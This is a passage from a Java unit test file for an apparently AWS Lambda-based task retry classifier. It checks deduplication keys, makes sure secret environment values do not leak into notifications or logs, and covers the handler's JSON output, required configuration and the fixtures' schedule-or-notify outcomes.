        assertThat(second.alreadyScheduled()).isTrue();
        assertThat(second.scheduleName()).isEqualTo(first.scheduleName()).isEqualTo("run-7f3a-2");
        assertThat(notifier.published()).isEmpty();
    }

    @Test
    void sameTerminalEventDeliveredTwice_carriesTheSameDedupKey() {
        taskIsDescribable("app-exit-1.json", 1, List.of());
        handler.handle(Fixtures.event("app-exit-1.json"));
        handler.handle(Fixtures.event("app-exit-1.json"));
        assertThat(notifier.published()).hasSize(2)
                .extracting(n -> n.attributes().get("dedupKey")).containsOnly("run-7f3a:FAILED");
    }

    // What must not leak -----------------------------------------------------------------------

    @Test
    void usersEnvironmentValues_appearInNoNotificationAndNoLogLine() {
        taskIsDescribable("app-exit-1.json", 1, List.of());
        taskIsDescribable("app-exit-2.json", 1, List.of());
        handler.handle(Fixtures.event("app-exit-1.json"));
        handler.handle(Fixtures.event("app-exit-2.json"));
        handler.handle(edited("succeeded.json", ev -> ((ObjectNode) ev.at("/detail/overrides/containerOverrides/0"
                + "/environment/3")).put("value", SECRET)));

        assertThat(notifier.published()).hasSize(2).allSatisfy(n -> {
            assertThat(n.subject()).doesNotContain(SECRET);
            assertThat(n.body()).doesNotContain(SECRET).doesNotContain("s3://example-bucket");
            assertThat(n.attributes().values()).noneMatch(v -> v.contains(SECRET));
        });
        assertThat(log).isNotEmpty().noneMatch(line -> line.contains(SECRET) || line.contains("s3://example-bucket"));
        assertThat(scheduler.only().input()).as("the next attempt needs them").contains(SECRET);
    }

    // Lambda entry and wiring -----------------------------------------------------------------

    @Test
    void handleRequest_writesTheStepAsJson() throws IOException {
        taskIsDescribable("spot-interruption.json", 1, List.of());
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        handler.handleRequest(new ByteArrayInputStream(Fixtures.event("spot-interruption.json")), out, null);
        JsonNode step = TestJson.tree(out.toString());
        assertThat(step.get("decision").asText()).isEqualTo("RETRY");
        assertThat(step.get("runId").asText()).isEqualTo(RUN);
        assertThat(step.get("scheduleName").asText()).isEqualTo("run-7f3a-2");
        assertThat(step.get("nextAttemptAt").asText()).isEqualTo("2025-03-14T09:18:40Z");
        assertThat(step.has("outcome")).isFalse();
    }

    @Test
    void withoutAStarterArn_theClassifierRefusesToStart() {
        RetrierConfig config = TestEnvironment.sampleConfig("RETRIER_STARTER_ARN", null);
        ConfigurationException e = catchThrowableOfType(ConfigurationException.class, () -> handler(config, 1));
        assertThat(e.problems()).singleElement().asString().startsWith("RETRIER_STARTER_ARN: is required");
    }

    @Test
    void everyValidFixture_endsInAScheduleOrANotification_neverBoth() {
        assertThat(Fixtures.validEvents()).as("valid fixtures").hasSizeGreaterThan(10);
        for (String fixture : Fixtures.validEvents()) {
            FakeAttemptScheduler s = new FakeAttemptScheduler();
            FakeNotifier n = new FakeNotifier();
            StepResult result = new ClassifierHandler(TestEnvironment.sampleConfig(), new FakeTaskDescriber(), s, n,
                    clock, new SplittableRandom(1), line -> { }).handle(Fixtures.event(fixture));
            assertThat(s.schedules().size() + n.published().size()).as(fixture).isEqualTo(1);
            assertThat(result.decision() == Decision.RETRY).as(fixture).isEqualTo(s.schedules().size() == 1);
        }
    }
}
